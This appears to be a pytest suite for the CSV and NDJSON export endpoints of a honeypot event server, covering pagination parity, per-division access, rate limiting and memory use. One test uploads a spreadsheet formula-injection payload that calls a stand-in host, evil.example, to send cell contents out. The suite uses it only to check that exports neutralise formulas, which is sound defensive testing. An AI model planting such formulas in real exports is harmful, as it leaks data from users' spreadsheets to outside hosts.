"""Files of events and sessions: the same as the lists, of any size, and harmless to open."""

import csv
import io
import json
import tracemalloc
from typing import Any
from uuid import UUID

import pytest
from event_builder import START, event, uuid7
from server_bench import URL, Bench, SensorClient, start
from sqlalchemy import delete, select
from sqlalchemy.exc import DBAPIError

from server_app.accounts.models import Role
from server_app.events import export, store
from server_app.events.models import Event, EventSession
from server_app.events.tables import defused

PATHS = ["/events", "/events/sessions"]
MEBIBYTE = 1024 * 1024


@pytest.fixture
def filled(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> Bench:
    """Events in two divisions, some at the same moment, read in chunks that are smaller than they are many."""
    monkeypatch.setattr(export, "KEYS", 4)
    monkeypatch.setattr(export, "WHOLE_EVENTS", 3)
    for name, service in (("ours", "cowrie"), ("theirs", "recon")):
        division = bench.division(name)
        bench.sensor(name, division).upload(
            [
                event(number // 3, session=f"s{number % 6}", service=service, source={"ip": f"10.0.0.{number + 1}"})
                | {"kind": "login" if number % 2 else "connection", "severity": "high" if number % 4 else "low"}
                for number in range(13)
            ]
        )
        bench.user(f"observer of {name}", Role.OBSERVER, division)
    return bench


def listed(bench: Bench, path: str, query: str, name: str = "admin") -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    cursor = ""
    while True:
        page = bench.person(name).ok("GET", f"{path}?limit=5&{query}{cursor}")
        found += page["items"]
        if page["next"] is None:
            return found
        cursor = f"&cursor={page['next']}"


def exported(bench: Bench, path: str, query: str, name: str = "admin") -> list[dict[str, Any]]:
    text = bench.person(name).ok("GET", f"{path}/export?format=ndjson&{query}").decode()
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "query",
    ["", "order=oldest", "kind=login", "severity=high", "source=10.0.0.2-10.0.0.9", "text=connection", "hidden=true"],
)
def test_a_file_is_the_list(filled: Bench, path: str, query: str) -> None:
    wanted = listed(filled, path, query)
    found = exported(filled, path, query)
    if path == "/events":
        assert all({"details", "packets"} <= set(item) for item in found)
        found = [{name: item[name] for name in item if name not in {"details", "packets"}} for item in found]
    assert found == wanted
    assert bool(found) == (query != "hidden=true")


def test_events_bring_their_details(bench: Bench) -> None:
    packet = {"time": START.isoformat(), "protocol": "tcp", "port": 22, "payload": "aGk="}
    sensor = bench.sensor()
    assert sensor.upload([event(packets=[packet])]).json["results"][0]["status"] == "stored"  # type: ignore[index] # it is JSON
    found = exported(bench, "/events", "")[0]
    assert found == bench.admin.ok("GET", f"/events/{found['id']}")
    assert found["packets"]


@pytest.mark.parametrize("path", PATHS)
def test_a_table_has_the_same_rows_and_columns(filled: Bench, path: str) -> None:
    answer = filled.admin.call("GET", f"{path}/export")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="HoneySens-')
    assert answer.text.count("\r\n") == answer.text.count("\n")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    wanted = listed(filled, path, "")
    assert [row["id"] for row in rows] == [str(item["id"]) for item in wanted]
    moment = "time" if path == "/events" else "last_time"
    for row, item in zip(rows, wanted, strict=True):
        assert (row["source_ip"], row["destination_port"]) == (item["source"]["ip"], "22")
        assert (row[moment], row["source_port"]) == (item[moment], "")
        assert set(row) == (set(item) - {"source", "destination"}) | {
            f"{end}_{part}" for end in ("source", "destination") for part in ("ip", "port")
        }


@pytest.mark.parametrize("path", PATHS)
def test_a_table_without_rows_has_its_header(bench: Bench, path: str) -> None:
    assert bench.admin.ok("GET", f"{path}/export?service=none").count(b"\r\n") == 1
    assert bench.admin.ok("GET", f"{path}/export?service=none&format=ndjson") == b""


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("kind", ["csv", "ndjson"])
def test_observers_get_their_divisions_rows_only(filled: Bench, path: str, kind: str) -> None:
    text = filled.person("observer of ours").ok("GET", f"{path}/export?format={kind}").decode()
    assert "cowrie" in text
    assert "theirs" not in text
    assert "recon" not in text
    other = filled.admin.ok("GET", f"{path}?service=recon")["items"][0]["division"]
    assert exported(filled, path, f"division={other}", "observer of ours") == []


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(beginning: str) -> None:
    assert defused(f"{beginning}1+1") == f"'{beginning}1+1"


def test_what_attackers_say_is_a_text_in_a_table(bench: Bench) -> None:
    summary = '=HYPERLINK("http://evil.example/?"&A1, "a, b")'
    bench.sensor().upload([event(summary=summary)])
    for path in PATHS:
        text = bench.admin.ok("GET", f"{path}/export").decode()
        assert next(csv.DictReader(io.StringIO(text, newline="")))["summary"] == f"'{summary}"
        assert exported(bench, path, "")[0]["summary"] == summary


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("query", ["format=xls", "limit=5", "cursor=x", "source=nonsense"])
def test_what_makes_no_sense_is_refused(bench: Bench, path: str, query: str) -> None:
    assert bench.admin.call("GET", f"{path}/export?{query}").status_code == 400


def test_an_event_whose_session_goes_meanwhile_is_left_out(bench: Bench) -> None:
    bench.sensor().upload([event(session="a"), event(session="b")])
    with bench.database.writing() as session:
        session.execute(delete(EventSession).where(EventSession.session == "a"))
    assert [item["session"] for item in exported(bench, "/events", "")] == ["b"]
    assert [item["session"] for item in listed(bench, "/events", "")] == ["b"]


def test_a_failure_in_the_middle_cuts_the_answer(filled: Bench) -> None:
    answer = filled.admin.call("GET", "/events/export?format=ndjson")
    assert answer.status_code == 200
    pieces = iter(answer.response)
    assert next(pieces)
    with filled.database.engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE events RENAME TO gone")
    try:
        with pytest.raises(DBAPIError, match="events"):
            list(pieces)
    finally:
        with filled.database.engine.begin() as connection:
            connection.exec_driver_sql("ALTER TABLE gone RENAME TO events")


def test_a_user_writes_two_files_at_once_and_holds_nobody_else_up(filled: Bench) -> None:
    begun = [filled.admin.call("GET", f"{path}/export") for path in PATHS]
    assert [answer.status_code for answer in begun] == [200, 200]
    refused = filled.admin.call("GET", "/events/export")
    assert (refused.status_code, refused.headers["Retry-After"]) == (429, "30")
    assert exported(filled, "/events", "", "observer of ours")

    assert begun[0].data  # to its end
    again = filled.admin.call("GET", "/events/export")
    assert again.status_code == 200
    for answer in (begun[1], again):
        answer.close()  # given up
    assert exported(filled, "/events", "")


def test_all_users_together_leave_threads_to_others(filled: Bench) -> None:
    small = start(filled.settings.model_copy(update={"web_threads": 2}))
    begun = small.admin.call("GET", "/events/export")
    refused = small.person("observer of ours").call("GET", "/events/sessions/export")
    assert (begun.status_code, refused.status_code) == (200, 429)
    begun.close()
    assert exported(small, "/events/sessions", "", "observer of ours")
    small.database.close()


def test_what_is_refused_or_fails_at_once_takes_no_slot(filled: Bench) -> None:
    for _ in range(3):
        assert filled.admin.call("GET", "/events/export?format=xls").status_code == 400
    with filled.database.engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE events RENAME TO gone")
    try:
        answers = [filled.admin.call("GET", "/events/export").status_code for _ in range(3)]
    finally:
        with filled.database.engine.begin() as connection:
            connection.exec_driver_sql("ALTER TABLE gone RENAME TO events")
    assert answers == [500] * 3


@pytest.mark.parametrize(("kind", "rows", "most"), [("csv", 20_000, 24), ("ndjson", 5_000, 8)])
def test_a_file_of_any_size_takes_little_memory(bench: Bench, kind: str, rows: int, most: int) -> None:
    fill(bench, bench.sensor(), rows)
    person = bench.admin
    tracemalloc.start()
    try:
        answer = person.client.get(f"/api/events/export?format={kind}", base_url=URL)
        lines = sum(piece.count(b"\n") for piece in answer.iter_encoded())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert lines == rows + (kind == "csv")
    assert peak < most * MEBIBYTE


def fill(bench: Bench, sensor: SensorClient, rows: int) -> None:
    """Many events of one session, by one statement."""
    sensor.upload([event(session="many")])
    with bench.database.writing() as session:
        first = session.scalars(select(Event)).one()
        columns = {name: getattr(first, name) for name in Event.__table__.columns.keys() if name != "id"}  # noqa: SIM118 - a collection of columns, by their names
        texts = {"details": "[]", "packets": "[]"}
        store.EVENTS.run(session.connection(), [columns | texts | {"uuid": UUID(uuid7())} for _ in range(rows - 1)])
